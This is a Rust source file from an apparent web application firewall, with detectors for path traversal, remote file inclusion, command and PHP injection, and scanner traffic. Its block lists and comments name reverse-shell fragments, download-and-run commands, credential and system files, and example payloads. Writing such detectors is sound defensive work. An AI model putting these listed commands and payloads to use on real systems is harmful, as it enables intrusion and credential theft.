//! The other detectors: path traversal and local file inclusion, remote file
//! inclusion, command injection, PHP injection, scanner user agents and protocol
//! anomalies. Each takes a value already URL-decoded (repeatedly) and lower-cased by
//! the caller; each looks for structure an attack needs, not for single words.

use std::borrow::Cow;

use crate::text::{
    NeedleSets, Needles, after_last, byte_table, find_byte, has, has_byte, positions,
};
use crate::transform::{html_entity_decode, normalise_path};

/// Builds the detectors' automata now (see [`Needles`]).
pub(crate) fn prepare() {
    for set in [&SENSITIVE_FILES, &PHP_DIRECTIVES] {
        set.prepare();
    }
    MARKS.prepare();
}

/// The needle lists the command, PHP and scanner detectors look for anywhere in a
/// lower-cased value, found in one pass (see [`marks`]).
static MARKS: NeedleSets = NeedleSets::new(&[RCE_MARKS, PHP_MARKS, SCANNER_TOOLS]);

/// Which of [`MARKS`]' lists have a needle in a lower-cased value: worked out once per
/// value however many of those detectors read it.
#[derive(Debug, Clone, Copy)]
pub struct Marks(u32);

impl Marks {
    fn rce(self) -> bool {
        self.0 & 1 != 0
    }

    fn php(self) -> bool {
        self.0 & 2 != 0
    }

    fn scanner(self) -> bool {
        self.0 & 4 != 0
    }
}

/// The [`Marks`] of `v` (lower-cased).
pub fn marks(v: &str) -> Marks {
    Marks(MARKS.which(v))
}

/// `../` in any spelling (`..\`, `..;/`, `%2e%2e/` once decoded, `....//`), or a
/// path to a well-known sensitive file.
pub fn is_traversal(v: &str) -> bool {
    // Dots, slashes, hex spellings (`0x2e`) or non-ASCII look-alikes are needed for any
    // of it; the sensitive files without a dot (`id_rsa`, `known_hosts`) count in a path
    // only. (Any `0` used to let through every id, price and date.)
    let bytes = v.as_bytes();
    if !bytes.iter().enumerate().any(|(i, &b)| {
        matches!(b, b'.' | b'/' | b'\\')
            || b >= 0x80
            || (b == b'0' && matches!(bytes.get(i + 1), Some(b'x' | b'X')))
    }) {
        return false;
    }
    // Spellings of `.` and `/` that old servers or decoders accepted: literal hex
    // (`0x2e`), Unicode slashes (division slash, set minus, fullwidth and private-use
    // forms), and bytes that did not decode (`%c0%5c` leaves a stray byte).
    let mut s = String::with_capacity(v.len());
    let mut lower = v.to_ascii_lowercase();
    if has(&lower, "0x") {
        lower = lower
            .replace("0x2e", ".")
            .replace("0x2f", "/")
            .replace("0x5c", "/");
    }
    for c in lower.chars() {
        match c {
            '\\' | '\u{2215}' | '\u{2216}' | '\u{2044}' | '\u{29f5}' | '\u{ff0f}' | '\u{ff3c}'
            | '\u{fe68}' | '\u{efc8}' | '\u{f025}' => s.push('/'),
            '\u{ff0e}' | '\u{2024}' => s.push('.'),
            '\u{fffd}' => {}
            c => s.push(c),
        }
    }
    // `.\/\.\.\/` is `./../` with escapes; `./././` padding is an evasion too.
    if positions(&s, "./").count() >= 3 && has(&s, "/./") {
        return true;
    }
    if has(&s, "//") {
        s = s.replace("//", "/");
    }
    let b = s.as_bytes();
    let mut dots = 0;
    for (i, &c) in b.iter().enumerate() {
        if c == b'.' {
            dots += 1;
            continue;
        }
        if dots >= 2 && (c == b'/' || c == b';' || c == b'\0') {
            // `../` at the start or after a separator (not `file..txt/`).
            let start = i - dots;
            // One `../` that ends the path (`href="../"`) names the parent directory,
            // as relative links do; a traversal climbs further or goes on to a file.
            let parent_only = c == b'/'
                && b.get(i + 1)
                    .is_none_or(|n| matches!(n, b'"' | b'\'' | b'>' | b' ' | b'#' | b'?'))
                && s.matches("..").count() == 1;
            if !parent_only
                && (start == 0
                    || matches!(
                        b[start - 1],
                        b'/' | b'=' | b' ' | b'"' | b'\'' | b':' | b'\0'
                    ))
            {
                return true;
            }
        }
        dots = 0;
    }
    if dots >= 2 && s.len() == dots {
        return true;
    }
    is_sensitive_file(&s)
}

/// Well-known files and directories (see [`is_sensitive_file`]).
static SENSITIVE_FILES: Needles = Needles::new(&[
    "etc/passwd",
    "etc/shadow",
    "etc/group",
    "etc/hosts",
    "etc/issue",
    "etc/motd",
    "etc/master.passwd",
    "etc/security/",
    "etc/httpd/",
    "etc/apache",
    "etc/nginx/",
    "etc/mysql/",
    "etc/ssh/",
    "etc/sudoers",
    "etc/crontab",
    "etc/profile",
    "etc/resolv.conf",
    "etc/inetd.conf",
    "etc/fstab",
    "proc/self/",
    "proc/version",
    "proc/cmdline",
    "proc/1/",
    "var/log/",
    "var/www/",
    "root/.",
    "home/",
    "usr/local/apache",
    ".bash_history",
    ".bashrc",
    ".ssh/",
    ".htpasswd",
    ".htaccess",
    ".git/",
    ".svn/",
    ".env",
    "web.config",
    "wp-config.php",
    "boot.ini",
    "win.ini",
    "system.ini",
    "windows/system32",
    "winnt/system32",
    "windows/win.ini",
    "inetpub/",
    "autoexec.bat",
    "system32/config/sam",
    "repair/sam",
    "/sam",
    "php.ini",
    "my.cnf",
    "httpd.conf",
    "id_rsa",
    "authorized_keys",
    "known_hosts",
    ".aws/credentials",
    ".docker/",
    "etc/pwd.db",
    "etc/spwd.db",
    "applicationhost.config",
    ".mysql_history",
]);

/// Well-known files and directories an attacker reads or probes for.
pub fn is_sensitive_file(v: &str) -> bool {
    // Resolved as a file system would (`/etc/./x/../passwd`), when there is anything to
    // resolve.
    let n = if v.contains('\\') || has(v, "//") || has(v, "/.") || v.starts_with('.') {
        Cow::Owned(normalise_path(&v.replace('\\', "/")))
    } else {
        Cow::Borrowed(v)
    };
    let b = n.as_bytes();
    SENSITIVE_FILES.find(&n, |p, f| {
        // The name must start a path segment (`/etc/passwd`, `etc/passwd`, `c:/boot.ini`)
        // and end one (`.env`, not `.environment`).
        let starts = p == 0
            || matches!(b[p - 1], b'/' | b':' | b'=' | b' ' | b'~')
            || f.starts_with('/')
            || f.starts_with('.');
        let after = b.get(p + f.len());
        let ends = f.ends_with('/') || after.is_none_or(|c| !c.is_ascii_alphanumeric());
        starts && ends
    })
}

/// A multipart upload or file-name header naming a PHP file (`filename="x.php"`).
pub fn php_upload(v: &str) -> bool {
    positions(v, "filename").any(|i| {
        let rest = &v[i + 8..];
        let rest = rest.trim_start_matches(['=', '"', '\'', '*', ' ']);
        let name: &str = rest
            .split(['"', '\'', ';', '\r', '\n'])
            .next()
            .unwrap_or("");
        php_name(name) || php_session_file(name)
    })
}

/// A PHP session file name: `sess_` and an id of at least 20 characters of PHP's
/// session id alphabet (`[0-9a-z,-]`; ids are 22 to 256 characters), alone or ending a path.
fn php_session_file(name: &str) -> bool {
    let name = after_last(name.trim(), b"/\\");
    name.strip_prefix("sess_").is_some_and(|id| {
        id.len() >= 20
            && id
                .bytes()
                .all(|b| b.is_ascii_alphanumeric() || b == b',' || b == b'-')
    })
}

/// A file name with an extension PHP servers execute (trailing dots and spaces, which
/// Windows drops when it saves the file, do not hide it).
pub fn php_name(name: &str) -> bool {
    let name = name.trim().trim_end_matches(['.', ' ']);
    // Spaces around the extension (`photo. php`) are padding too.
    let ext = after_last(name, b".").trim();
    has_byte(name, b'.')
        && matches!(
            ext,
            "php"
                | "php3"
                | "php4"
                | "php5"
                | "php7"
                | "phtml"
                | "pht"
                | "phar"
                | "phps"
                | "pgif"
                | "inc"
        )
}

/// Schemes that fetch from another server.
const REMOTE_SCHEMES: [&str; 4] = ["http://", "https://", "ftp://", "ftps://"];
/// PHP stream wrappers and other schemes an include should never see.
const WRAPPERS: [&str; 8] = [
    "php://",
    "data://",
    "expect://",
    "zip://",
    "phar://",
    "file://",
    "gopher://",
    "dict://",
];

/// `v` starts with `prefix`, ignoring ASCII case.
fn starts_with_ignore_case(v: &str, prefix: &str) -> bool {
    v.get(..prefix.len())
        .is_some_and(|p| p.eq_ignore_ascii_case(prefix))
}

/// A URL to another server where a file name belongs (`?page=http://1.2.3.4/x.txt?`).
pub fn is_rfi(v: &str) -> bool {
    let t = v.trim();
    if WRAPPERS.iter().any(|w| t.starts_with(w)) {
        return true;
    }
    for scheme in REMOTE_SCHEMES.iter().chain(&["jar:"]) {
        if let Some(rest) = t.strip_prefix(scheme) {
            // A bare IP address, or a URL ending in `?` (cuts off the suffix the
            // application appends), is how inclusion payloads look.
            if ip_host(rest) || t.ends_with('?') {
                return true;
            }
            // `include=http://evil/shell.txt`: a script-like file.
            if [
                ".txt?", ".php", ".phtml", ".sh", ".pl", ".py", ".exe", ".ps1", "shell", "cmd",
            ]
            .iter()
            .any(|x| rest.contains(x))
                && rest.contains('/')
            {
                return rest.contains("shell") || rest.contains('?') || rest.ends_with(".txt");
            }
        }
    }
    false
}

/// Remote inclusion inside markup (an XML or HTML body, where attribute values and text
/// are the arguments): a URL whose host is a bare IP address, or a PHP stream wrapper.
/// Ordinary links (`https://example.com/index.php`) are everywhere in markup, so the
/// script-like-file rule of [`is_rfi`] does not apply here.
pub fn is_rfi_in_markup(body: &str) -> bool {
    body.split(['"', '\'', '<', '>', ' ', '\t', '\r', '\n'])
        .filter(|t| t.contains("://"))
        .any(|t| {
            let t = t.to_ascii_lowercase();
            REMOTE_SCHEMES
                .iter()
                .any(|scheme| t.strip_prefix(scheme).is_some_and(ip_host))
                || ["php://", "expect://", "phar://", "data://"]
                    .iter()
                    .any(|w| t.starts_with(w))
        })
}

/// Parameters through which known PHP applications include a file by name (the CVEs
/// behind CRS 931110): given a URL, they fetch and run remote code.
pub fn is_rfi_parameter(name: &str, value: &str) -> bool {
    let value = value.trim_start();
    [
        "mosconfig_absolute_path",
        "_conf[path]",
        "_server[document_root]",
        "gallery_basedir",
        "path[docroot]",
        "appserv_root",
        "config[root_dir]",
    ]
    .iter()
    .any(|p| name.eq_ignore_ascii_case(p))
        && REMOTE_SCHEMES
            .iter()
            .chain(&["file://"])
            .any(|s| starts_with_ignore_case(value, s))
}

/// Whether the authority of a URL (`rest`, after `scheme://`) is an IP address rather
/// than a name: dotted IPv4, a bracketed IPv6 literal (`[2001:db8::1]`), or IPv4 as one
/// number (`http://1089054027/`, `0x40e9b74b`), which resolvers accept too. Sites link
/// to names; a payload fetched from a bare address is a dropper's habit.
fn ip_host(rest: &str) -> bool {
    let authority = rest.split(['/', '?', '#']).next().unwrap_or("");
    // Credentials (`user:pass@`) come before the host.
    let hostport = authority.rsplit('@').next().unwrap_or("");
    if let Some(v6) = hostport.strip_prefix('[') {
        let addr = v6.split(']').next().unwrap_or("");
        // A zone (`%25eth0`) may follow the address.
        let addr = addr.split('%').next().unwrap_or("");
        return addr.parse::<std::net::Ipv6Addr>().is_ok();
    }
    let host = hostport.split(':').next().unwrap_or("");
    host.parse::<std::net::Ipv4Addr>().is_ok()
        || (host.len() >= 8 && host.bytes().all(|b| b.is_ascii_digit()))
        || host
            .strip_prefix("0x")
            .is_some_and(|h| h.len() == 8 && h.bytes().all(|b| b.is_ascii_hexdigit()))
}

/// Marks of a command line wherever they are (see [`is_rce`]).
const RCE_MARKS: &[&str] = &[
    "${ifs}",
    "$ifs",
    "${path:",
    "${jndi:",
    "{${",
    "{jndi:",
    "cmd.exe",
    "cmd /c",
    "powershell",
    "invoke-webrequest",
    "invoke-expression",
    "iex(",
    "iex (",
    "iwr ",
    "net user",
    "certutil",
    "bitsadmin",
    "/bin/sh",
    "/bin/bash",
    "/bin/nc",
    "/usr/bin/",
    "nc -e",
    "bash -i",
    "/dev/tcp/",
    "wget http",
    "curl http",
    "sh -c",
    "$shell",
];

/// The bytes [`is_rce`] looks after: those that open a substitution (`` ` ``, `$`, `<`,
/// `>`) or separate commands (`;`, `|`, `&`, a newline, a leading `(`).
static RCE_SYNTAX: [bool; 256] = byte_table(b"`$<>;|&\n(");

/// What may come before a command word (see [`command_at`]).
static COMMAND_LEAD: [bool; 256] = byte_table(b" \t|&({!'\"\n\r\\@");

/// Commands after a shell separator or inside a substitution: `;cat /etc/passwd`,
/// `| nc -e`, `$(id)`, `` `whoami` ``, `${IFS}`, PowerShell's `iex`/`Invoke-WebRequest`.
pub fn is_rce(v: &str) -> bool {
    is_rce_marked(v, marks(v))
}

/// [`is_rce`] with `v`'s [`Marks`] worked out already.
pub fn is_rce_marked(v: &str, marks: Marks) -> bool {
    // Marks of a command line wherever they are: `${IFS}` and JNDI lookups, Windows and
    // PowerShell forms, shells and download-and-run pipes.
    if marks.rce() {
        return true;
    }
    if has(v, "() {") && (has(v, "};") || has(v, ":;")) {
        return true; // Shellshock
    }
    // Shell globbing in well-known paths: `/etc/[p]asswd`, `/bi?/sh`, `/usr/[a-z]in/bash`.
    if has_byte(v, b'/') && (has_byte(v, b'[') || has_byte(v, b'?') || has_byte(v, b'*')) {
        let plain: String = v
            .chars()
            .filter(|c| !matches!(c, '[' | ']' | '?' | '*' | '\'' | '"' | '\\'))
            .collect();
        if plain != v
            && (is_sensitive_file(&plain)
                || ["/bin/", "/usr/bin", "/sbin/", "/usr/a-zin", "/bina-z"]
                    .iter()
                    .any(|p| plain.contains(p)))
        {
            return true;
        }
    }
    // One pass over the bytes that open a substitution or separate commands (most bytes
    // are neither: one table look-up each).
    let b = v.as_bytes();
    for (i, &c) in b.iter().enumerate() {
        if !RCE_SYNTAX[usize::from(c)] {
            continue;
        }
        // Substitutions with something inside: `$(x)`, `${x}` holding a command, `` `x` ``,
        // process substitution `<(x)`.
        let open = match (c, b.get(i + 1)) {
            (b'`', _) => Some(1),
            (b'$', Some(b'(' | b'{')) | (b'<' | b'>', Some(b'(')) => Some(2),
            _ => None,
        };
        if let Some(open) = open {
            let (word, _) = command_at(&v[i + open..]);
            if is_command(word)
                || is_weak_command(word)
                || (c == b'$' && b[i + 1] == b'(' && !word.is_empty() && v[i..].contains(')'))
            {
                return true;
            }
        }
        // Separators followed by a command (weak command names need an operand).
        if matches!(c, b';' | b'|' | b'&' | b'\n' | b'`') || (c == b'(' && i == 0) {
            let (word, after) = command_at(&v[i + 1..]);
            let bare = after.trim_start().is_empty()
                || after
                    .trim_start()
                    .starts_with([';', '|', '&', '`', '\'', '"']);
            if is_command(word)
                || (is_weak_command(word) && (has_operand(after) || bare && c != b'&'))
            {
                return true;
            }
        }
    }
    // The value is a command line: `cat /etc/passwd`, `wget http://x/y`, `whoami;`.
    let (word, after) = command_at(v);
    if (is_command(word) || is_weak_command(word)) && has_operand(after) {
        return true;
    }
    is_windows_batch(v)
}

/// `FOR %x IN (..) DO ..` and `IF [NOT] EXIST|DEFINED|ERRORLEVEL ..`, cmd.exe's control
/// flow, which no ordinary value starts with.
fn is_windows_batch(v: &str) -> bool {
    let t = v.trim_start_matches(['&', '|', ' ', ';']);
    if let Some(rest) = t.strip_prefix("for ") {
        return rest.contains('%') && rest.contains(" in") && rest.contains("do");
    }
    if let Some(rest) = t.strip_prefix("if ") {
        let rest = rest.trim_start();
        return rest.starts_with("exist ")
            || rest.starts_with("not ")
            || rest.starts_with("/i ")
            || rest.starts_with('%')
            || rest.starts_with("defined ")
            || rest.starts_with("errorlevel")
            || (rest.contains("==") || rest.contains(" equ ") || rest.contains(" neq "))
                && (rest.contains("echo")
                    || rest.contains("cmd")
                    || rest.contains("exit")
                    || rest.contains("set "));
    }
    false
}

/// The command word at the start of `s` (quotes, escapes and a directory stripped:
/// `"/bin/cat"` → `cat`) and what follows it.
fn command_at(s: &str) -> (&str, &str) {
    // Byte loops: the bytes they pass over are ASCII, so where they stop is a char
    // boundary.
    let start = s
        .bytes()
        .position(|b| !COMMAND_LEAD[usize::from(b)])
        .unwrap_or(s.len());
    let s = &s[start..];
    let end = s
        .bytes()
        .position(|b| {
            !(b.is_ascii_alphanumeric()
                || matches!(b, b'_' | b'.' | b'-' | b'/' | b'\\' | b'\'' | b'"'))
        })
        .unwrap_or(s.len());
    let word = after_last(&s[..end], b"/");
    // `w'h'o'am'i` and `c\at` are the same command to a shell.
    let word = word.trim_matches(['\'', '"', '\\']);
    (word, &s[end..])
}

/// What follows a command name looks like its arguments: a path, URL, variable,
/// redirection, another command, or flags followed by one of those.
fn has_operand(after: &str) -> bool {
    let a = after.trim_start();
    let operand = |a: &str| {
        a.starts_with('/')
            || a.starts_with("http")
            || a.starts_with('$')
            || a.starts_with('~')
            || a.starts_with("..")
            || a.starts_with(['>', '<', ';', '|', '&', '`'])
    };
    if a.is_empty() {
        return false;
    }
    if operand(a) {
        return true;
    }
    if a.starts_with('-') {
        let rest = a.trim_start_matches(|c: char| {
            c == '-' || c.is_ascii_alphanumeric() || c == ' ' || c == ','
        });
        // Only flags (`rm -rf`), or flags then an operand; flags then words is prose.
        return (a.split_whitespace().all(|w| w.starts_with('-')) && a.len() < 16) || operand(rest);
    }
    false
}

/// Command names that are also English words or common values: they count only with
/// an operand after them.
fn is_weak_command(w: &str) -> bool {
    // A `match` on the name compiles to a few comparisons, not a scan of the list.
    matches!(
        w,
        "time"
            | "date"
            | "type"
            | "set"
            | "find"
            | "sort"
            | "more"
            | "less"
            | "head"
            | "tail"
            | "top"
            | "who"
            | "w"
            | "last"
            | "history"
            | "file"
            | "start"
            | "copy"
            | "make"
            | "source"
            | "cal"
            | "yes"
            | "free"
            | "du"
            | "df"
            | "tr"
            | "cut"
            | "uniq"
            | "wc"
            | "diff"
            | "stat"
            | "strings"
            | "ln"
            | "export"
            | "alias"
            | "unset"
            | "jobs"
            | "bg"
            | "fg"
            | "exit"
            | "logout"
            | "service"
            | "mount"
            | "reboot"
            | "shutdown"
            | "expr"
            | "seq"
            | "tee"
            | "tar"
            | "id"
            | "pwd"
            | "env"
            | "ls"
            | "dir"
            | "ps"
            | "host"
            | "dig"
            | "echo"
            | "printf"
            | "kill"
            | "touch"
            | "mkdir"
            | "cp"
            | "mv"
            | "rm"
            | "cd"
            | "net"
            | "reg"
            | "sc"
            | "del"
            | "eval"
            | "exec"
            | "fold"
            | "sleep"
            | "timeout"
            | "zip"
            | "unzip"
            | "git"
            | "java"
            | "node"
            | "php"
            | "python"
            | "perl"
            | "ruby"
            | "lua"
            | "mysql"
            | "ping"
            | "ftp"
            | "ssh"
            | "su"
            | "sudo"
            | "vi"
            | "vim"
            | "nano"
            | "gdb"
            | "base64"
            | "od"
            | "dd"
            | "awk"
            | "sed"
            | "grep"
            | "xargs"
            | "nl"
            | "tac"
            | "cat"
    )
}

fn is_command(w: &str) -> bool {
    // Names nobody types in a form field except to run them.
    matches!(
        w,
        "whoami"
            | "uname"
            | "wget"
            | "curl"
            | "nc"
            | "ncat"
            | "netcat"
            | "telnet"
            | "bash"
            | "sh"
            | "zsh"
            | "ksh"
            | "csh"
            | "dash"
            | "python2"
            | "python3"
            | "chmod"
            | "chown"
            | "killall"
            | "pkill"
            | "netstat"
            | "ifconfig"
            | "ipconfig"
            | "systeminfo"
            | "tasklist"
            | "taskkill"
            | "powershell"
            | "cmd"
            | "cmd.exe"
            | "certutil"
            | "bitsadmin"
            | "wmic"
            | "iex"
            | "iwr"
            | "curl.exe"
            | "printenv"
            | "crontab"
            | "passwd"
            | "useradd"
            | "scp"
            | "tftp"
            | "nmap"
            | "socat"
            | "openssl"
            | "gcc"
            | "cc"
            | "hostname"
            | "systemctl"
            | "getent"
            | "lsof"
            | "hexdump"
            | "xxd"
            | "chattr"
            | "busybox"
            | "invoke-webrequest"
            | "invoke-expression"
            | "start-process"
            | "get-content"
            | "new-object"
            | "sqlite3"
            | "psql"
            | "javac"
            | "nohup"
            | "ansible"
            | "ansible-inventory"
            | "ansible-vault"
            | "ansible-playbook"
            | "chef-shell"
            | "chef-client"
            | "cpulimit"
            | "c89"
            | "c99"
            | "bsdtar"
            | "lwp-download"
            | "lwp-request"
            | "fetch"
            | "aria2c"
            | "rcp"
            | "rsh"
            | "rlogin"
            | "ss"
            | "tcpdump"
            | "strace"
            | "ltrace"
            | "msfconsole"
            | "msfvenom"
            | "mkfifo"
            | "mknod"
            | "setsid"
            | "xterm"
            | "screen"
            | "tmux"
            | "visudo"
            | "chpasswd"
            | "usermod"
            | "groupadd"
            | "cscli"
    )
}

/// Template tags, stream wrappers and superglobals (see [`is_php`]).
const PHP_MARKS: &[&str] = &[
    "[php]",
    "[/php]",
    "{php}",
    "{/php}",
    "php://",
    "phar://",
    "zlib://",
    "glob://",
    "expect://",
    "data://text/plain;base64",
    // PHP's other stream wrappers (the ssh2 and rar extensions', compression).
    "ssh2.shell://",
    "ssh2.exec://",
    "ssh2.tunnel://",
    "ssh2.sftp://",
    "ssh2.scp://",
    "rar://",
    "compress.bzip2://",
    "$_get",
    "$_post",
    "$_request",
    "$_server",
    "$_cookie",
    "$_files",
    "$_env",
    "$_session",
    "$globals",
    "$http_raw_post_data",
];

/// PHP code, PHP wrappers, superglobals, serialized objects and dangerous calls.
pub fn is_php(v: &str) -> bool {
    is_php_marked(v, marks(v))
}

/// [`is_php`] with `v`'s [`Marks`] worked out already.
pub fn is_php_marked(v: &str, marks: Marks) -> bool {
    // An opening tag with code after it: `<?php x`, `<?=x`, `<? echo`, but not an XML
    // declaration, and not a tag that ends the value (`<?php` alone runs nothing).
    for i in positions(v, "<?") {
        let rest = &v[i + 2..];
        let code = if let Some(r) = rest.strip_prefix("php").or(rest.strip_prefix('=')) {
            Some(r)
        } else if let Some(r) = rest.strip_prefix("xml") {
            // An XML declaration goes on with a pseudo-attribute (`<?xml version=`,
            // `encoding=` in a text declaration). To PHP with short tags, `<?xml :echo 1;`
            // is an open tag, a goto label `xml:` and code, and so is `<?xml:echo 1;`.
            let t = r.trim_start_matches([' ', '\t', '\n', '\r']);
            let declaration = t.len() < r.len()
                && (t.is_empty()
                    || t.starts_with("version")
                    || t.starts_with("encoding")
                    || t.starts_with("standalone")
                    || t.starts_with("?>"));
            (t.starts_with(':') && !declaration).then_some(t)
        } else if rest.starts_with([' ', '\t', '\n', '\r']) {
            Some(rest)
        } else {
            None
        };
        if code.is_some_and(|c| !c.trim().is_empty()) {
            return true;
        }
    }
    // Template tags, stream wrappers and superglobals.
    if marks.php() {
        return true;
    }
    // A PHP session file (`sess_<id>`, alone or at the end of a path): what session
    // poisoning uploads or includes; applications name sessions by their id alone.
    if php_session_file(v) {
        return true;
    }
    // A PHP file name with trailing dots (`shell.php...`): Windows drops them when it
    // saves the file, so they get a script past extension filters. Not in a sentence
    // (`... edit config.php.`): a file name has no spaces. Only the extensions PHP
    // runs (`libstdc++.INC.` ends a line of a changelog).
    if v.ends_with('.')
        && !v.contains([' ', '\t', '\n'])
        && php_name(v)
        && v.trim_end_matches('.')
            .rsplit('.')
            .next()
            .is_some_and(|e| e.starts_with("ph"))
    {
        return true;
    }
    // Variable variables: `${'a'.'b'}`, `$ {$a}`.
    if let Some(i) = find_byte(v.as_bytes(), 0, b'$') {
        let rest = v[i + 1..].trim_start();
        if rest.starts_with('{') && (rest[1..].trim_start().starts_with(['$', '\'', '"'])) {
            return true;
        }
    }
    // Serialized objects: `O:8:"stdClass":1:{...}`, also with the quotes and braces as
    // character references, as in an XML attribute (`O:8:&quot;stdClass&quot;:0:&#x7b;`).
    if serialized_object(v)
        || has_byte(v, b'&')
            && (v.contains("&quot;") || v.contains("&#"))
            && serialized_object(&html_entity_decode(v))
    {
        return true;
    }
    call_or_directive(v)
}

/// `O:8:"stdClass":1:{...}`: an object in PHP's serialization format.
fn serialized_object(v: &str) -> bool {
    let b = v.as_bytes();
    for i in positions(v, ":\"") {
        if i >= 3
            && (b[..i].ends_with(b"o:")
                || b[..i]
                    .iter()
                    .rev()
                    .take_while(|c| c.is_ascii_digit())
                    .count()
                    > 0)
        {
            let head = &v[..i];
            if let Some(p) = head.rfind(|c: char| !c.is_ascii_digit())
                && p >= 1
                && &head[p - 1..=p] == "o:"
                && has(&v[i..], ":{")
            {
                return true;
            }
        }
    }
    false
}

/// Configuration directives pushed through arguments (see [`call_or_directive`]).
static PHP_DIRECTIVES: Needles = Needles::new(&[
    "opcache.",
    "mbstring.",
    "unserialize_max_depth",
    "allow_url_fopen",
    "display_errors",
    "include_path",
    "register_globals",
    "suhosin.",
    "error_log",
    "allow_url_include",
    "auto_prepend_file",
    "auto_append_file",
    "disable_functions",
    "open_basedir",
    "safe_mode",
]);

/// Function calls and configuration directives.
fn call_or_directive(v: &str) -> bool {
    // Calls of functions that run code or commands, with parentheses (or PHP's
    // call-without-parentheses tricks through variables).
    const CALLS: &[&str] = &[
        "eval",
        "assert",
        "system",
        "exec",
        "shell_exec",
        "passthru",
        "popen",
        "proc_open",
        "pcntl_exec",
        "create_function",
        "call_user_func",
        "call_user_func_array",
        "preg_replace",
        "base64_decode",
        "str_rot13",
        "gzinflate",
        "gzuncompress",
        "phpinfo",
        "file_get_contents",
        "file_put_contents",
        "fopen",
        "fwrite",
        "readfile",
        "include",
        "require",
        "include_once",
        "require_once",
        "unserialize",
        "highlight_file",
        "show_source",
        "php_uname",
        "getenv",
        "putenv",
        "ini_set",
        "ini_get",
        "array_map",
        "usort",
        "move_uploaded_file",
        "fsockopen",
        "curl_exec",
        "posix_getpwuid",
        "get_defined_vars",
        "extract",
        "parse_str",
        "var_dump",
        "print_r",
        "chr",
        "ord",
        "mail",
        "symlink",
        "chmod",
        "unlink",
        "rmdir",
        "mkdir",
        "copy",
        "rename",
        "scandir",
        "glob",
        "opendir",
        "readdir",
        "file",
        "touch",
        "md5",
        "sha1",
        "crc32",
        "strrev",
        "hex2bin",
        "bin2hex",
        "urldecode",
        "rawurldecode",
        "htmlspecialchars_decode",
    ];
    for i in positions(v, "(") {
        // PHP allows whitespace and comments between a callee and its arguments
        // (`exec\t(x)`, `exec #c\n (x)`, `exec/**/(x)`).
        let (callee, gap) = strip_gap_back(&v[..i]);
        let arg = v[i + 1..].trim_start();
        // A parenthesised or indexed expression called: `(system)(ls);`.
        if callee.ends_with([')', ']']) && group_call(v, i, callee) {
            return true;
        }
        // `(system)(whoami)` and `"system"(x)` call too: a name in quotes or
        // parentheses, called.
        let head = callee.trim_end_matches([' ', '\t', ')', '"', '\'']);
        // Bytes, not chars: the byte after a non-ASCII char's last byte is a boundary.
        let start = head
            .bytes()
            .rposition(|c| !(c.is_ascii_alphanumeric() || c == b'_'))
            .map_or(0, |p| p + 1);
        let name = &head[start..];
        // PHP-only names (underscored, distinctive) count even glued to other text
        // (`xshell_exec(`: the name's tail).
        if !name.is_empty() && PHP_ONLY.iter().any(|n| name.ends_with(n)) {
            return true;
        }
        let unwrapped = head.len() < callee.len();
        let wrapped =
            unwrapped && gap.is_empty() && head[..start].trim_end().ends_with(['(', '"', '\'']);
        // `system ('id')` is code, `the system (of rules)` and `the system\n(of rules)`
        // are prose: a space or line break before an argument that is not a string, a
        // variable or nothing. A tab or a comment there is code layout, not prose.
        let comment = gap.contains(['/', '#']);
        let prose = (!comment && gap.contains([' ', '\n'])) || (unwrapped && !wrapped);
        let plain_arg = arg.starts_with(['\'', '"', '$', ')']);
        if prose && !plain_arg {
            continue;
        }
        if CALLS.contains(&name) {
            // Strong names alone; weak ones (md5, chr, file) need company.
            let strong = matches!(
                name,
                "eval"
                    | "assert"
                    | "system"
                    | "shell_exec"
                    | "passthru"
                    | "popen"
                    | "proc_open"
                    | "pcntl_exec"
                    | "create_function"
                    | "phpinfo"
                    | "base64_decode"
                    | "gzinflate"
                    | "str_rot13"
                    | "file_get_contents"
                    | "file_put_contents"
                    | "call_user_func"
                    | "call_user_func_array"
                    | "highlight_file"
                    | "show_source"
                    | "php_uname"
                    | "fsockopen"
                    | "move_uploaded_file"
                    | "unserialize"
                    | "posix_getpwuid"
                    | "get_defined_vars"
                    | "curl_exec"
                    | "proc_nice"
                    | "fopen"
                    | "readfile"
                    | "exec"
                    | "include"
                    | "require"
                    | "include_once"
                    | "require_once"
                    | "preg_replace"
                    | "ini_set"
                    | "getenv"
                    | "putenv"
            );
            // `FILE\r\n()`: code layout before an argument list no prose has.
            let laid_out = (comment || gap.contains(['\t', '\r', '\n'])) && plain_arg;
            if strong || v.contains(';') || v.contains('$') || laid_out {
                return true;
            }
        }
    }
    if v.contains('$') && variable_call(v) {
        return true;
    }
    // Configuration directives pushed through arguments.
    v.contains('=') && PHP_DIRECTIVES.contains(v)
}

/// How far the PHP call detectors look for a bracket's match or a comment's start.
const MAX_SCAN: usize = 1024;

/// `s` without the whitespace and PHP comments (`/* */`, and `#` or `//` comments a line
/// break ends) at its end, and what went.
fn strip_gap_back(s: &str) -> (&str, &str) {
    let mut t = s;
    loop {
        let w = t.trim_end_matches([' ', '\t', '\r', '\n', '\x0b', '\x0c']);
        let newline = t[w.len()..].contains('\n');
        t = w;
        // The comment's start is looked for in the last MAX_SCAN bytes only: this runs
        // at every `(`, and a whole-prefix search made `*/(` repeated quadratic.
        if let Some(p) = t.strip_suffix("*/").and_then(|h| {
            let from = h.len().saturating_sub(MAX_SCAN);
            let tail = &h.as_bytes()[from..];
            tail.windows(2).rposition(|w| w == b"/*").map(|p| from + p)
        }) {
            t = &t[..p];
            continue;
        }
        if newline {
            let line = t.rfind('\n').map_or(0, |p| p + 1);
            let hash = t[line..].find('#');
            let slashes = t[line..].find("//");
            if let Some(p) = hash.into_iter().chain(slashes).min() {
                t = &t[..line + p];
                continue;
            }
        }
        return (t, &s[t.len()..]);
    }
}

/// `s` after the whitespace and PHP comments at its start (an unterminated comment runs
/// to the end).
fn skip_gap(s: &str) -> &str {
    let mut t = s;
    loop {
        t = t.trim_start_matches([' ', '\t', '\r', '\n', '\x0b', '\x0c']);
        if let Some(c) = t.strip_prefix("/*") {
            t = c.find("*/").map_or("", |p| &c[p + 2..]);
        } else if t.starts_with('#') || t.starts_with("//") {
            t = t.find('\n').map_or("", |p| &t[p + 1..]);
        } else {
            return t;
        }
    }
}

/// The length of the bracketed group `s` starts with (`(..)`, `[..]`, `{..}`, nested
/// brackets of the same kind counted), if it closes.
fn group_len(s: &str) -> Option<usize> {
    // Looked for at every `(`, `[` and `$`: bounded, so a value of unclosed brackets
    // costs linear time, not quadratic. Call arguments and indexes are short.
    let s = &s.as_bytes()[..s.len().min(MAX_SCAN)];
    let open = *s.first()?;
    let close = match open {
        b'(' => b')',
        b'[' => b']',
        b'{' => b'}',
